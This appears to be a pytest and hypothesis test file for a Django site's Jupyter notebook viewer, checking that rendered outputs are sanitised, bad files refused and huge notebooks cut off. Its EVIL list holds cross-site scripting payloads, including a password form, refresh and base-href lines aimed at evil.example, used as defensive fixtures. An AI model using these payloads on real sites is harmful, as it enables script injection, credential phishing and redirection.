"""Notebooks on the project's pages: what is shown of them, and that nothing of theirs can do anything."""

from __future__ import annotations

import base64
import contextlib
import html.parser
import json
from typing import Any

import pytest
from django.template.loader import render_to_string
from hypothesis import example, given, settings
from hypothesis import strategies as st

from modelwright.accounts.actors import Actor
from modelwright.core.errors import ValidationFailed
from projects import services, source
from projects.notebooks import read_notebook
from projects.notebooks.cleaning import clean_html, clean_text
from tests.projects.conftest import Cast

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
ALLOWED = {
    *("table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "p", "div", "span", "br", "hr", "pre", "code"),
    *("b", "i", "em", "strong", "sub", "sup", "ul", "ol", "li"),
}


def notebook(*cells: Any, **more: Any) -> bytes:
    """A notebook's file."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **more}).encode()


def code(*outputs: Any, text: Any = "1") -> dict[str, Any]:
    """A code cell."""
    return {"cell_type": "code", "source": text, "execution_count": 3, "outputs": list(outputs), "metadata": {}}


def shown(**data: Any) -> dict[str, Any]:
    """An output of those forms."""
    return {"output_type": "display_data", "data": {k.replace("__", "/"): v for k, v in data.items()}, "metadata": {}}


class _Watcher(html.parser.HTMLParser):
    """Gathers elements and attributes as a browser's parser finds them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements of a text."""
    watcher = _Watcher()
    watcher.feed(text)
    return watcher.found


def page_of(data: bytes) -> str:
    """The part of the page that shows a notebook."""
    return render_to_string("projects/_notebook.html", {"notebook": read_notebook(data)})


def test_cells_and_outputs_are_read() -> None:
    table = (
        "<div><style scoped>.x {}</style><table border='1' class='dataframe'><tr><th></th><th>a</th></tr></table></div>"
    )
    found = read_notebook(
        notebook(
            {"cell_type": "markdown", "source": ["# Title\n", "| a |\n|---|\n| 1 |"], "metadata": {}},
            code(
                {"output_type": "stream", "name": "stdout", "text": ["10%\r", "20%\r\n", "\x1b[31mred\x1b[0m\n"]},
                {"output_type": "error", "ename": "ValueError", "evalue": "no", "traceback": ["\x1b[0;31mValueError"]},
                shown(text__html=table, text__plain="a"),
                shown(image__png=base64.b64encode(PNG).decode() + "\n", text__plain="<Figure>"),
                text=["x = 1\n", "print(x)"],
            ),
            metadata={"language_info": {"name": "python"}},
        )
    )
    assert found.language == "python"
    heading, cell = found.cells
    assert "Table 1 of cell 1" in str(heading.html)
    assert (cell.text, cell.count) == ("x = 1\nprint(x)", "3")
    assert [one.kind for one in cell.outputs] == ["text", "error", "html", "picture"]
    assert cell.outputs[0].text == "20%\nred\n"
    assert cell.outputs[2].text == "<div><table><tbody><tr><td></td><th>a</th></tr></tbody></table></div>"
    assert cell.outputs[3].text == f"data:image/png;base64,{base64.b64encode(PNG).decode()}"


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<table><tr><td onclick='alert(1)' style='background:url(//evil.example)' colspan='2'>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='//evil.example'><input name=password><button>Sign in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example'><link rel=x href=//e>",
    "<div hx-get='/logout/' hx-trigger='load' data-autosubmit id='main' class='button primary'>x</div>",
    "<td colspan='\" onmouseover=\"alert(1)'>x",
    "<!--><script>alert(1)</script>-->",
]


@pytest.mark.parametrize("evil", EVIL)
def test_html_of_an_output_can_do_nothing(evil: str) -> None:
    data = notebook(
        code(shown(text__html=evil)),
        code(shown(text__html=[evil, evil])),
        code(shown(text__markdown=evil), text=evil),
        {"cell_type": "markdown", "source": evil},
        {"cell_type": evil, "source": evil},
        code({"output_type": "error", "ename": evil, "evalue": evil, "traceback": []}, shown(**{evil: evil})),
        metadata={"language_info": {"name": evil}},
    )
    _check_harmless(page_of(data))


def _check_harmless(page: str) -> None:
    ours = {"class", "aria-label", "aria-hidden", "tabindex", "role", "id", "aria-labelledby"}
    for tag, attributes in elements(page):
        assert tag not in ("script", "style", "iframe", "object", "form", "input", "button", "meta", "base", "link")
        assert not [name for name in attributes if name.startswith(("on", "hx-", "data-")) or name == "style"]
        if tag == "img":
            assert str(attributes["src"]).startswith("data:image/")
        elif tag == "a":
            assert str(attributes["href"]).startswith(("http://", "https://"))
        else:
            assert set(attributes) <= ours | {"colspan", "rowspan", "scope", "start"}


@settings(max_examples=150, deadline=None)
@example(["<p title='named' lang='xx'>x</p>"])
@given(st.lists(st.sampled_from([*EVIL, "<", ">", "'", '"', "</", "<td ", "<table>", "=", "x", "\0", "&lt;", "<!--"])))
def test_pieces_of_html_put_together_stay_harmless(pieces: list[str]) -> None:
    for tag, attributes in elements(clean_html("".join(pieces)) or ""):
        assert tag in ALLOWED
        assert all(name in ("colspan", "rowspan") and str(value).isdigit() for name, value in attributes.items())


_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.sampled_from(EVIL),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["cell_type", "source", "outputs", "output_type", "data", "text/html", "image/png", "text", "x"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None)
@given(st.lists(_JSON, max_size=4), _JSON)
def test_whatever_is_in_the_file_is_shown_or_refused(cells: list[Any], metadata: Any) -> None:
    data = notebook(*cells, metadata=metadata)
    # Numbers beyond 64 bits and lone surrogates are no JSON that is read.
    with contextlib.suppress(ValidationFailed):
        _check_harmless(page_of(data))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b'{"nbformat": 3, "worksheets": []}',
        b'{"nbformat": 4, "cells": {}}',
        b"[" * 100_000,
        b"\xff",
    ],
)
def test_what_is_no_notebook_is_told(data: bytes) -> None:
    with pytest.raises(ValidationFailed, match=r"(?s)notebook"):
        read_notebook(data)


@pytest.mark.parametrize(
    "text", ["not base64!", base64.b64encode(b"<svg onload=alert(1)>").decode(), base64.b64encode(b"GIF8").decode(), ""]
)
def test_what_is_no_picture_is_not_one(text: str) -> None:
    (cell,) = read_notebook(notebook(code(shown(image__png=text, text__plain="words")))).cells
    assert [(one.kind, one.text) for one in cell.outputs] == [("text", "words")]


def test_what_would_have_to_run_is_named_and_its_words_are_shown() -> None:
    output = shown(
        **{"application__vnd.plotly.v1+json": {}, "text__html": "<script>x</script>", "text__plain": "Figure"}
    )
    (cell,) = read_notebook(notebook(code(output))).cells
    (one,) = cell.outputs
    assert (one.kind, one.text, one.left_out) == ("text", "Figure", "application/vnd.plotly.v1+json")


def test_long_notebooks_are_cut_off_and_say_so() -> None:
    found = read_notebook(notebook(*[code() for _ in range(450)]))
    assert (len(found.cells), found.left_out) == (400, 50)
    assert clean_text("x" * 300_000).endswith("(more is left out)")


def test_a_notebook_of_a_project_is_shown(browser_client: Any, cast: Cast) -> None:
    services.commit(
        cast.project,
        {"a.ipynb": notebook(code(shown(text__html=EVIL[2]))), "b.ipynb": b"<script>"},
        message="m",
        expected_head=source.head(cast.project),
        acting_user=Actor.person(cast.owner),
    )
    client = browser_client(cast.viewer)
    page = client.get(f"/projects/{cast.project.pk}/files/?path=a.ipynb").content.decode()
    assert '<td colspan="2">x</td>' in page
    assert "evil.example" not in page
    assert "evil.example" in client.get(f"/projects/{cast.project.pk}/files/?path=a.ipynb&as_text=1").content.decode()
    broken = client.get(f"/projects/{cast.project.pk}/files/?path=b.ipynb").content.decode()
    assert "it is not valid JSON" in broken
    assert "&lt;script&gt;" in broken


@pytest.mark.parametrize("source", ["of " * 4000, "![" * 6000])
def test_a_page_renders_so_much_markdown_and_shows_the_rest_as_it_is(source: str) -> None:
    """Five megabytes of beginnings of pictures took four minutes, for each time that somebody opened the page."""
    hostile = {"cell_type": "markdown", "source": source}
    outputs = [{"output_type": "display_data", "data": {"text/markdown": source}, "metadata": {}}]
    cells = [hostile] * 300 + [{"cell_type": "code", "source": "", "outputs": outputs * 40}]
    notebook = read_notebook(json.dumps({"nbformat": 4, "metadata": {}, "cells": cells}).encode())
    rendered = [cell for cell in notebook.cells if cell.html is not None]
    most = 100_000 // 12_000
    # What is hard to read uses the page's steps up before its characters.
    assert len(rendered) == most if source.startswith("of") else 0 < len(rendered) < most
    assert {cell.kind for cell in notebook.cells if cell.html is None and cell.number <= 300} == {"raw"}
    assert all(cell.text for cell in notebook.cells[:300])
    assert {output.kind for output in notebook.cells[-1].outputs} == {"text"}
